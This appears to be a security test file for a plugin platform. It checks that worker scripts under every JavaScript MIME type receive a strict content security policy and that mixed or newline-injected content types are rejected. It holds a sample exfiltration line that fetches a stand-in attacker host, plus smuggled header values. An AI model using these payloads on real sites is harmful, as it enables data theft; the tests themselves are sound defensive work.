/*
 * The attacker: the author of a plugin. A worker takes its policy from its own file, so a script that is served as a type
 * which the platform does not know as one, and the browser does, runs without any and sends what it likes where it likes.
 */
import { contract } from '@tillwright/contract'
import { expect, test } from 'vitest'
import { deployBody, deployPlugin } from '../test/plugins/deploy-plugin.ts'
import { visit } from '../test/plugins/visit.ts'
import { sharedPlatform } from '../test/test-platform.ts'

const platform = sharedPlatform()

/** Source: MIME Sniffing, "JavaScript MIME type". */
const scripts = [
  'application/ecmascript',
  'application/javascript',
  'application/x-ecmascript',
  'application/x-javascript',
  'text/ecmascript',
  'text/javascript',
  'text/javascript1.0',
  'text/javascript1.1',
  'text/javascript1.2',
  'text/javascript1.3',
  'text/javascript1.4',
  'text/javascript1.5',
  'text/jscript',
  'text/livescript',
  'text/x-ecmascript',
  'text/x-javascript',
]
const page = { path: 'index.html', content: '<!doctype html><title>Page</title>' }

test.for(scripts)('a worker declared as %s has the policy of the page', async (type) => {
  for (const [path, contentType] of [
    ['worker', type],
    ['app.js', type.toUpperCase()],
    ['module.mjs', `${type}; charset=utf-8`],
  ] as const) {
    const { url } = await deployPlugin(platform(), {
      inlineAssets: [page, { path, contentType, content: 'fetch("https://attacker.example")' }],
    })
    const { status, headers } = await visit(platform(), { host: new URL(url).host, path: `/${path}` })
    expect(status).toBe(200)
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self' .*connect-src 'self'/)
    expect(headers['x-content-type-options']).toBe('nosniff')
  }
})

test.for(scripts)('a picture, a text or a page cannot be declared as %s', async (contentType) => {
  for (const path of ['a.png', 'a.txt', 'a.css', 'a.html', 'a.svg', 'a.bin']) {
    const body = deployBody(platform().local.storeId, { inlineAssets: [page, { path, contentType, content: '1' }] })
    const { status, error } = await platform().request('POST', contract.plugins.deploy.path, { body })
    expect([path, status, error.param]).toEqual([path, 400, 'inlineAssets[1].contentType'])
  }
})

test.for(['text/plain, text/ecmascript', 'text/plain\ntext/ecmascript', 'text/ecmascript,text/plain'])(
  'two types in one are refused: %j',
  async (contentType) => {
    const body = deployBody(platform().local.storeId, {
      inlineAssets: [page, { path: 'a', contentType, content: '1' }],
    })
    const { status } = await platform().request('POST', contract.plugins.deploy.path, { body })
    expect(status).toBe(400)
  },
)
